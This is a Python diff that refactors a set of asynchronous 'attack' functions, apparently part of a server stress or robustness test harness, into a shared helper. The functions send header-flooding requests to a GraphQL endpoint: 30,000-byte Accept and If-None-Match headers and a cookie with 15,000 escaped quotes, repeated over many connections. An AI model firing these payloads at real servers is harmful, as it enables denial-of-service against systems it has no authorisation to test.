@@ -5,6 +5,7 @@ import itertools
 import json
 import re
 import zlib
+from collections.abc import Callable
 from contextlib import AsyncExitStack
 from functools import partial
 
@@ -19,6 +20,18 @@ _WAITING_BYTES = 200_000
 def _tokens(size: int, first: str = "a") -> str:
     """Return a header value of about `size` bytes with as many tokens as possible."""
     return first + ",a" * (size // 2)
+
+
+async def _send_heads(target: Target, connections: int, head: Callable[[], bytes]) -> None:
+    """Send requests over some connections, 20 over each, one after the other. `head` returns the next request."""
+
+    async def act() -> None:
+        async with target.connection() as (reader, writer):
+            for _ in range(20):
+                writer.write(head())
+                await reader.readuntil(b"\r\n\r\n")
+
+    await repeat(target, connections, act)
 
 
 @attack()
@@ -38,14 +51,11 @@ async def different_accepts_of_16000_types(target: Target) -> None:
     """Send headers `Accept` with thousands of media types, each of them once, without a key."""
     numbers = itertools.count()
 
-    async def act() -> None:
-        async with target.connection() as (reader, writer):
-            for _ in range(20):
-                accept = f"accept: {_tokens(30_000, f'a{next(numbers)}')}"
-                writer.write(target.head("/graphql?query=%7Ba%7D", accept, method="GET", key=False))
-                await reader.readuntil(b"\r\n\r\n")
+    def head() -> bytes:
+        accept = f"accept: {_tokens(30_000, f'a{next(numbers)}')}"
+        return target.head("/graphql?query=%7Ba%7D", accept, method="GET", key=False)
 
-    await repeat(target, 8, act)
+    await _send_heads(target, 8, head)
 
 
 @attack()
@@ -53,14 +63,7 @@ async def cookies_of_15000_escapes(target: Target) -> None:
     """Send a cookie with thousands of escaped quotes, without a key."""
     cookie = 'cookie: a="' + '\\"' * 15_000 + '"'
     head = target.head("/graphql?query=%7Ba%7D", "x-requested-with: x", cookie, method="GET", key=False)
-
-    async def act() -> None:
-        async with target.connection() as (reader, writer):
-            for _ in range(20):
-                writer.write(head)
-                await reader.readuntil(b"\r\n\r\n")
-
-    await repeat(target, 4, act)
+    await _send_heads(target, 4, lambda: head)
 
 
 @attack()
@@ -110,14 +113,7 @@ async def known_tags_of_a_file(target: Target) -> None:
     assert path is not None
     known = f"if-none-match: {_tokens(30_000)}"
     request = target.head(path[0].decode(), known, method="GET", key=False)
-
-    async def act() -> None:
-        async with target.connection() as (reader, writer):
-            for _ in range(20):
-                writer.write(request)
-                await reader.readuntil(b"\r\n\r\n")
-
-    await repeat(target, 64, act)
+    await _send_heads(target, 64, lambda: request)
 
 
 @attack()
